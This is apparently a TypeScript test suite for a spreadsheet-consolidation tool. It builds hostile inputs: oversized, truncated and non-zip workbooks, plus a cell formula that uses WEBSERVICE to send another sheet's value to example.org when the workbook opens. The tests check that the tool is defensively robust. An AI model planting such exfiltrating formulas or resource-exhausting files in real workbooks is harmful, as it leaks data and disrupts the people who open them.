import { spawn } from "child_process";
import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { generateReport } from "../fixtures/generate-report";
import { hostileFiles, partsOf } from "../safety/hostile-xlsx-files";
import { loadXlsx, makeTmp, removeTmp, run, writeGrids } from "./helpers";

/*
 * consolidate reads each office's file in a worker bounded in memory and time (issue 15): a
 * file that would fill the memory, a cut-short zip or a file that is no zip at all is left out
 * with its reason, and the consolidation of the others is written. No formula of an office's
 * file arrives live in the consolidation.
 */
const BIN = path.resolve(__dirname, "../../bin/guitsetgel.js");
const GOOD = 30;
let dir: string;
const at = (name: string) => path.join(dir, name);
const good = Array.from({ length: GOOD }, (_, i) => `Сум ${String(i + 1).padStart(2, "0")}.xlsx`);

/** The text the first office's formula last computed, and where it stands. */
let formulaCell: { address: string; text: string };

/** A good report with a million more values in column L, below its table. */
async function millionValues(from: string): Promise<Buffer> {
  const zip = await JSZip.loadAsync(fs.readFileSync(from));
  const part = "xl/worksheets/sheet1.xml";
  const xml = await zip.file(part)!.async("string");
  const rows: string[] = [];
  for (let r = 1001; r < 1_001_001; r++)
    rows.push(`<row r="${r}"><c r="L${r}"><v>${r}</v></c></row>`);
  zip.file(part, xml.replace("</sheetData>", `${rows.join("")}</sheetData>`));
  // Stored, not deflated: the test builds it in a moment; the reader still has every value.
  return zip.generateAsync({ type: "nodebuffer", compression: "STORE" });
}

beforeAll(async () => {
  dir = makeTmp("isolation");
  for (const [i, name] of good.entries()) await writeGrids(at(name), [generateReport(15, i + 1)]);

  // A criterion's text in the first office's report, typed as a formula that sends another
  // office's figure away when the workbook opens: its cached value is the text itself.
  const wb = await loadXlsx(at(good[0]));
  const ws = wb.worksheets[0];
  let found: ExcelJS.Cell | undefined;
  ws.eachRow((row, r) =>
    row.eachCell((cell) => {
      if (!found && r > 6 && typeof cell.value === "string" && cell.value.length > 25) found = cell;
    }),
  );
  const cell = found!;
  formulaCell = { address: cell.address, text: cell.value as string };
  cell.value = {
    formula: 'WEBSERVICE("http://example.org/?"&ENCODEURL(INDIRECT("Нэгтгэл"&CHAR(33)&"B5")))',
    result: formulaCell.text,
  } as ExcelJS.CellFormulaValue;
  await wb.xlsx.writeFile(at(good[0]));

  fs.writeFileSync(at("Сая утга.xlsx"), await millionValues(at(good[1])));
  const bytes = fs.readFileSync(at(good[2]));
  fs.writeFileSync(at("Тасархай.xlsx"), bytes.subarray(0, Math.floor(bytes.length / 2)));
  fs.writeFileSync(at("Зип биш.xlsx"), "this is not a workbook\n");
}, 300_000);
afterAll(() => removeTmp(dir));

/** `node --max-old-space-size=512 bin/guitsetgel.js …`: the run itself is bounded too. */
function cli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ["--max-old-space-size=512", BIN, ...args], { cwd: dir });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.on("exit", (code) => resolve({ code, stdout, stderr }));
  });
}

describe("consolidate of 30 good reports and three bad files", () => {
  let r: { code: number | null; stdout: string; stderr: string };
  let wb: ExcelJS.Workbook;
  const hostile = ["Сая утга.xlsx", "Тасархай.xlsx", "Зип биш.xlsx"];

  beforeAll(async () => {
    const inputs = [...good.slice(0, 10), ...hostile, ...good.slice(10)];
    r = await cli(["consolidate", ...inputs, "-o", "Нэгтгэл.xlsx", "--lang", "en"]);
    wb = await loadXlsx(at("Нэгтгэл.xlsx"));
  }, 300_000);

  // The million values come 11th: the worker that outgrew its heap is replaced, and the 20
  // files after it are read by the pool as before.
  it("writes the 30 and says 3 files were left out, exit 1", () => {
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/with 30 office sheets/);
    for (const name of good) expect(wb.getWorksheet(name.replace(".xlsx", ""))).toBeDefined();
  });

  it("lists each left-out file with its reason, in the order given", () => {
    const lines = r.stderr.split("\n").filter((l) => l.includes("Left out of the consolidation"));
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain("«Сая утга.xlsx»: too large to read within 512 MB / 60 s.");
    expect(lines[1]).toContain("«Тасархай.xlsx»");
    expect(lines[1]).toMatch(/damaged/);
    expect(lines[2]).toContain("«Зип биш.xlsx»");
  });

  it("writes the office's formula as the value it last computed", () => {
    const ws = wb.getWorksheet("Сум 01")!;
    expect(ws.getCell(formulaCell.address).type).toBe(ExcelJS.ValueType.String);
    expect(ws.getCell(formulaCell.address).value).toBe(formulaCell.text);
  });
});

describe("consolidate of 30 good reports and one of each hostile workbook", () => {
  let r: { code: number | null; stdout: string; stderr: string };
  let wb: ExcelJS.Workbook;
  let names: string[];

  beforeAll(async () => {
    // Issue 15's hostile files, each built from the example report by editing one part.
    expect(
      (await run(["scaffold", "org-report", "--example", "-o", "example.xlsx"], dir)).code,
    ).toBe(0);
    const files = hostileFiles(await partsOf(fs.readFileSync(at("example.xlsx"))));
    names = Object.keys(files).map((n) => `${n}.xlsx`);
    for (const [n, bytes] of Object.entries(files)) fs.writeFileSync(at(`${n}.xlsx`), bytes);
    const inputs = [...good.slice(0, 15), ...names, ...good.slice(15)];
    r = await cli(["consolidate", ...inputs, "-o", "Нэгтгэл-2.xlsx", "--lang", "en"]);
    wb = await loadXlsx(at("Нэгтгэл-2.xlsx"));
  }, 300_000);

  it("writes the 30, reads the hostile files that hold a report and leaves out the others with their reasons", () => {
    expect(r.code).toBe(1);
    for (const name of good) expect(wb.getWorksheet(name.replace(".xlsx", ""))).toBeDefined();
    // Read around what they claim: a far value, a merge, a name or a list over the whole sheet.
    for (const name of [
      "far-value",
      "merge-whole-sheet",
      "merge-to-row-99999999",
      "name-whole-sheet",
      "validation-a1-j1048576",
    ]) {
      expect([name, wb.getWorksheet(name) !== undefined]).toEqual([name, true]);
    }
    const leftOut = r.stderr
      .split("\n")
      .filter((l) => l.includes("Left out of the consolidation"))
      .map((l) => /«([^»]+)\.xlsx»/.exec(l)?.[1]);
    expect(leftOut.sort()).toEqual([
      "media-100k",
      "merges-100k-overlapping",
      "row-1e9",
      "sheet-3gib-claimed",
      "sheet-3gib-hidden",
    ]);
    expect(names).toHaveLength(10);
  });
});
